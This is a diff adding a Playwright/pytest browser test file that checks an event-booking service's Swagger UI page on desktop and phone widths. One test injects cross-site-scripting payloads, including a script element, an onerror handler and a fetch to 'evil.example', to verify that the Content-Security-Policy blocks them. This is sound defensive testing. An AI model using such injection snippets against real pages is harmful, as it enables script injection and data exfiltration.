@@ -1,0 +1,123 @@
+"""`/docs` in a browser, on a desk and on a phone."""
+
+from collections.abc import Iterator, Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+from flask import Flask
+from playwright.sync_api import Browser
+
+from tests.browser.chromium import needs_chromium, running_chromium
+from tests.browser.swagger_ui import SwaggerUI
+from tests.factories import EVENT, PASSWORD, new_email
+from tests.service import Service
+
+pytestmark = needs_chromium
+
+# CSS pixels from left to right.
+DESK, PHONE = 1280, 390
+
+# Milliseconds for whatever a page is waited for, on a machine that runs other tests at the same time.
+PATIENCE = 60_000
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with running_chromium() as browser:
+        yield browser
+
+
+@pytest.fixture
+def width() -> int:
+    """How wide the screen is, unless a test says otherwise."""
+    return DESK
+
+
+@pytest.fixture
+def swagger_ui(browser: Browser, service: Service, width: int) -> Iterator[SwaggerUI]:
+    is_phone = width == PHONE
+    context = browser.new_context(viewport={"width": width, "height": 844}, is_mobile=is_phone, has_touch=is_phone)
+    context.set_default_timeout(PATIENCE)
+    yield SwaggerUI(context.new_page(), service.url)
+    context.close()
+
+
+@pytest.mark.parametrize("width", [DESK, PHONE])
+def test_people_sign_up_create_book_and_cancel(
+    swagger_ui: SwaggerUI, service: Service, width: int, tmp_path: Path
+) -> None:
+    """With nothing in the console, no request to anybody else, and no page that is wider than the screen."""
+
+    def execute(operation: str, *, body: Mapping[str, Any] | None = None, **parameters: str) -> tuple[str, Any]:
+        answer = swagger_ui.execute(operation, body=body, **parameters)
+        swagger_ui.page.screenshot(path=tmp_path / f"{operation}.png")
+        assert swagger_ui.width == width
+        swagger_ui.put_away(operation)
+        return answer
+
+    def sign_up_and_authorize(*, is_organizer: bool) -> None:
+        email = new_email()
+        account = {"email": email, "password": PASSWORD, "is_organizer": is_organizer}
+        assert execute("signup", body=account)[0] == "201"
+        swagger_ui.authorize(email, PASSWORD)
+
+    swagger_ui.open("/")
+    assert swagger_ui.page.url == f"{service.url}/docs"
+    sign_up_and_authorize(is_organizer=True)
+    status, event = execute("createEvent", body=EVENT)
+    assert (status, event["tickets_available"]) == ("201", EVENT["capacity"])
+    swagger_ui.forget()
+
+    sign_up_and_authorize(is_organizer=False)
+    status, booking = execute("createBooking", body={"event_id": event["id"], "ticket_count": 2})
+    assert (status, booking["status"], booking["ticket_count"]) == ("201", "confirmed", 2)
+    status, booking = execute("cancelBooking", booking_id=booking["id"])
+    assert (status, booking["status"]) == ("200", "cancelled")
+
+    assert (swagger_ui.console, swagger_ui.failures, swagger_ui.violations) == ([], [], [])
+    assert [address for address in swagger_ui.requests if not address.startswith(f"{service.url}/")] == []
+
+
+@pytest.mark.long
+@pytest.mark.parametrize("width", [PHONE])
+def test_no_operation_is_wider_than_a_phone(swagger_ui: SwaggerUI) -> None:
+    swagger_ui.open()
+
+    for operation in swagger_ui.operations():
+        swagger_ui.unfold(operation)
+        assert swagger_ui.width == PHONE, operation
+        swagger_ui.fold_up(operation)
+
+
+@pytest.mark.parametrize(
+    ("directive", "attack"),
+    {
+        "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), {text: 'ran = 1'}))",
+        "script-src-attr": "document.body.insertAdjacentHTML('beforeend', `<img src='data:,' onerror='ran = 1'>`)",
+        "connect-src": "fetch('https://evil.example').then(() => ran = 1)",
+    }.items(),
+    ids=["element", "handler", "request"],
+)
+def test_what_somebody_gets_into_the_page_neither_runs_nor_tells(
+    swagger_ui: SwaggerUI, directive: str, attack: str
+) -> None:
+    swagger_ui.open()
+
+    swagger_ui.page.evaluate(f"() => {{ {attack} }}")
+
+    swagger_ui.page.wait_for_function("violations.length")
+    assert swagger_ui.violations == [directive]
+    assert swagger_ui.page.evaluate("typeof ran") == "undefined"
+
+
+@pytest.mark.parametrize("setting", ["INVITATION_URL", "PASSWORD_RESET_URL"])
+def test_a_mailed_link_opens_the_operation_that_takes_its_token(
+    swagger_ui: SwaggerUI, application: Flask, setting: str
+) -> None:
+    link = application.config[setting].removeprefix(application.config["PUBLIC_URL"])
+
+    swagger_ui.open(link)
+
+    assert [swagger_ui.is_unfolded(name) for name in swagger_ui.operations()].count(True) == 1
+    assert swagger_ui.is_unfolded(link.rpartition("/")[2])
